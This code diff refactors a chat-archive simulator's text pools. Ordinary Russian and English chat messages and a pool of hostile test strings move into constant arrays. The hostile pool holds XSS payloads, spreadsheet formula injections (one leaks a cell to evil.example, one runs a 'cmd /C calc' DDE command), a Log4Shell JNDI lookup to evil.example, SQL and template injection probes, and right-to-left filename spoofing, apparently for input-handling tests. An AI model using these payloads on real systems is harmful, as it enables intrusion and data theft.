@@ -1,52 +1,112 @@
 #include "sim/TextPools.h"
 
+#include <iterator>
+
 using namespace std::literals;
 
 namespace okarchive::sim {
 
+namespace {
+
+constexpr std::string_view kOrdinaryTexts[] = {
+    "Привет всем!"sv,
+    "Hello everyone"sv,
+    "Кто сегодня идёт на встречу?"sv,
+    "Я буду в 19:00, не опаздывайте"sv,
+    "ok"sv,
+    "Спасибо!"sv,
+    "Смотрите, что нашла: https://ok.ru/group/53038939046008"sv,
+    "https://ya.ru/"sv,
+    "Ага, договорились 👍"sv,
+    "Фото с прошлых выходных выложу вечером"sv,
+    "Did anyone see the match yesterday?"sv,
+    "С днём рождения! 🎉🎂"sv,
+    "Напоминаю: собрание в пятницу, кабинет 204"sv,
+    "Можно ссылку ещё раз?"sv,
+    "Всем доброе утро ☀️"sv,
+    "Цена вопроса — 1500 ₽, оплата до 15.07"sv,
+    "Не могу найти тот файл, перешлите, пожалуйста"sv,
+    "lol"sv,
+    "Хорошо, спасибо за информацию."sv,
+    "Отличная идея! Давайте так и сделаем."sv,
+    "Ссылка на опрос: https://ok.ru/poll/12345?utm_source=chat&x=1"sv,
+    "Who has the charger? Кто взял зарядку?"sv,
+    "Погода сегодня: +23°C, без осадков"sv,
+    "Завтра не смогу, простите 😔"sv,
+    "Ура!!!"sv,
+    "Подробности тут: ok.ru/dk?st.cmd=altGroupMain"sv,
+    "Кстати, кто-нибудь знает хорошего сантехника?"sv,
+    "Прикрепляю расписание на неделю"sv,
+    "Мама, позвони, когда освободишься"sv,
+    "Супер, жду"sv,
+    "Line one\nLine two\nLine three"sv,
+    "Заказ №4821 готов к выдаче"sv,
+    "Посмотрите видео, очень смешно 😂😂😂"sv,
+    "Да"sv,
+    "Нет"sv,
+    "Возможно"sv,
+    "Всем спокойной ночи 🌙"sv,
+    "Приглашаю на дачу в субботу, шашлыки 🍖"sv,
+    "Kto-nibud' pishet translitom?"sv,
+    "50% скидка только сегодня"sv,
+};
+
+// Hostile texts, in pick order: these, then a 4096-letter word and a 1500-letter Cyrillic word, then the rest.
+constexpr std::string_view kHostileTexts[] = {
+    "<script>alert(1)</script>"sv,
+    "\"><img src=x onerror=alert(1)>"sv,
+    "</title><h1>pwned</h1>"sv,
+    "</textarea><svg onload=alert(document.domain)>"sv,
+    "<!-- unclosed comment"sv,
+    "&lt;not an entity&gt; &amp; &#x3C;script&#x3E;"sv,
+    "=HYPERLINK(\"http://x\")"sv,
+    "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")"sv,
+    "+1"sv,
+    "-2"sv,
+    "@SUM(A1)"sv,
+    "=1+2;cmd|' /C calc'!A0"sv,
+    "\tleading tab"sv,
+    "\rleading carriage return"sv,
+    "\nleading line feed"sv,
+    "a,b,\"c\",d\r\ne,f"sv,
+    "NUL\0inside"sv,
+    "\0"sv,
+    "\0leading NUL"sv,
+    "controls \x01\x02\x1b[31mred\x1b[0m \x1f and DEL \x7f end"sv,
+    "backspace\b formfeed\f vertical\v tab"sv,
+    "emoji 😀 👍🏽 👨‍👩‍👧‍👦 🏳️‍🌈 🇷🇺"sv,
+    "𝕳𝖊𝖑𝖑𝖔 𝔀𝓸𝓻𝓵𝓭 (mathematical letters, 4-byte)"sv,
+    "مرحبا بالعالم — Arabic right to left"sv,
+    "שלום עולם — עברית"sv,
+    "invoice\u202Efdp.exe"sv,
+    "\u202Eright-to-left override from the start"sv,
+    "Съешь же ещё этих мягких французских булок, да выпей чаю"sv,
+    "Café crème, naïve façade, Ærøskøbing, ß"sv,
+    "path/with/slashes and \\backslashes\\ and \"quotes\" and 'apostrophes'"sv,
+    "</script><script>alert(\"x\")</script>"sv,
+    "line1\nline2\r\nline3\rline4"sv,
+    "separators\u2028line\u2029paragraph"sv,
+    "\xEF\xBB\xBF"
+    "BOM at the start"sv,
+    "' OR 1=1 --"sv,
+    "${jndi:ldap://evil.example/a}"sv,
+    "{{7*7}} ${7*7} <%= 7*7 %>"sv,
+    "[not json] {\"ui\":1,\"ty\":\"EXIT\"} inside a sentence"sv,
+    "zero\u200Bwidth\u200Djoiner\uFEFFnbsp\u00A0"sv,
+    "combining: e\u0301 a\u0308 Z\u0336\u0335"sv,
+};
+
+constexpr std::string_view kHostileTextsAfterLongWords[] = {
+    "中文消息 日本語のメッセージ 한국어 메시지"sv,
+    "    leading and trailing spaces    "sv,
+    "\\u0041 is not an escape here, and neither is \\n"sv,
+    "javascript:alert(1)"sv,
+};
+
+}  // namespace
+
 const std::vector<std::string_view>& ordinaryTexts() {
-    static const std::vector<std::string_view> pool = {
-        "Привет всем!"sv,
-        "Hello everyone"sv,
-        "Кто сегодня идёт на встречу?"sv,
-        "Я буду в 19:00, не опаздывайте"sv,
-        "ok"sv,
-        "Спасибо!"sv,
-        "Смотрите, что нашла: https://ok.ru/group/53038939046008"sv,
-        "https://ya.ru/"sv,
-        "Ага, договорились 👍"sv,
-        "Фото с прошлых выходных выложу вечером"sv,
-        "Did anyone see the match yesterday?"sv,
-        "С днём рождения! 🎉🎂"sv,
-        "Напоминаю: собрание в пятницу, кабинет 204"sv,
-        "Можно ссылку ещё раз?"sv,
-        "Всем доброе утро ☀️"sv,
-        "Цена вопроса — 1500 ₽, оплата до 15.07"sv,
-        "Не могу найти тот файл, перешлите, пожалуйста"sv,
-        "lol"sv,
-        "Хорошо, спасибо за информацию."sv,
-        "Отличная идея! Давайте так и сделаем."sv,
-        "Ссылка на опрос: https://ok.ru/poll/12345?utm_source=chat&x=1"sv,
-        "Who has the charger? Кто взял зарядку?"sv,
-        "Погода сегодня: +23°C, без осадков"sv,
-        "Завтра не смогу, простите 😔"sv,
-        "Ура!!!"sv,
-        "Подробности тут: ok.ru/dk?st.cmd=altGroupMain"sv,
-        "Кстати, кто-нибудь знает хорошего сантехника?"sv,
-        "Прикрепляю расписание на неделю"sv,
-        "Мама, позвони, когда освободишься"sv,
-        "Супер, жду"sv,
-        "Line one\nLine two\nLine three"sv,
-        "Заказ №4821 готов к выдаче"sv,
-        "Посмотрите видео, очень смешно 😂😂😂"sv,
-        "Да"sv,
-        "Нет"sv,
-        "Возможно"sv,
-        "Всем спокойной ночи 🌙"sv,
-        "Приглашаю на дачу в субботу, шашлыки 🍖"sv,
-        "Kto-nibud' pishet translitom?"sv,
-        "50% скидка только сегодня"sv,
-    };
+    static const std::vector<std::string_view> pool(std::begin(kOrdinaryTexts), std::end(kOrdinaryTexts));
     return pool;
 }
 
@@ -57,55 +117,12 @@ const std::vector<std::string_view>& hostileTexts() {
         for (int i = 0; i < 1500; ++i) s += "Ж";
         return s;
     }();
-    static const std::vector<std::string_view> pool = {
-        "<script>alert(1)</script>"sv,
-        "\"><img src=x onerror=alert(1)>"sv,
-        "</title><h1>pwned</h1>"sv,
-        "</textarea><svg onload=alert(document.domain)>"sv,
-        "<!-- unclosed comment"sv,
-        "&lt;not an entity&gt; &amp; &#x3C;script&#x3E;"sv,
-        "=HYPERLINK(\"http://x\")"sv,
-        "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")"sv,
-        "+1"sv,
-        "-2"sv,
-        "@SUM(A1)"sv,
-        "=1+2;cmd|' /C calc'!A0"sv,
-        "\tleading tab"sv,
-        "\rleading carriage return"sv,
-        "\nleading line feed"sv,
-        "a,b,\"c\",d\r\ne,f"sv,
-        "NUL\0inside"sv,
-        "\0"sv,
-        "\0leading NUL"sv,
-        "controls \x01\x02\x1b[31mred\x1b[0m \x1f and DEL \x7f end"sv,
-        "backspace\b formfeed\f vertical\v tab"sv,
-        "emoji 😀 👍🏽 👨‍👩‍👧‍👦 🏳️‍🌈 🇷🇺"sv,
-        "𝕳𝖊𝖑𝖑𝖔 𝔀𝓸𝓻𝓵𝓭 (mathematical letters, 4-byte)"sv,
-        "مرحبا بالعالم — Arabic right to left"sv,
-        "שלום עולם — עברית"sv,
-        "invoice\u202Efdp.exe"sv,
-        "\u202Eright-to-left override from the start"sv,
-        "Съешь же ещё этих мягких французских булок, да выпей чаю"sv,
-        "Café crème, naïve façade, Ærøskøbing, ß"sv,
-        "path/with/slashes and \\backslashes\\ and \"quotes\" and 'apostrophes'"sv,
-        "</script><script>alert(\"x\")</script>"sv,
-        "line1\nline2\r\nline3\rline4"sv,
-        "separators\u2028line\u2029paragraph"sv,
-        "\xEF\xBB\xBF"
-        "BOM at the start"sv,
-        "' OR 1=1 --"sv,
-        "${jndi:ldap://evil.example/a}"sv,
-        "{{7*7}} ${7*7} <%= 7*7 %>"sv,
-        "[not json] {\"ui\":1,\"ty\":\"EXIT\"} inside a sentence"sv,
-        "zero\u200Bwidth\u200Djoiner\uFEFFnbsp\u00A0"sv,
-        "combining: e\u0301 a\u0308 Z\u0336\u0335"sv,
-        longWord,
-        longWordCyr,
-        "中文消息 日本語のメッセージ 한국어 메시지"sv,
-        "    leading and trailing spaces    "sv,
-        "\\u0041 is not an escape here, and neither is \\n"sv,
-        "javascript:alert(1)"sv,
-    };
+    static const std::vector<std::string_view> pool = [] {
+        std::vector<std::string_view> texts(std::begin(kHostileTexts), std::end(kHostileTexts));
+        texts.insert(texts.end(), {longWord, longWordCyr});
+        texts.insert(texts.end(), std::begin(kHostileTextsAfterLongWords), std::end(kHostileTextsAfterLongWords));
+        return texts;
+    }();
     return pool;
 }
 
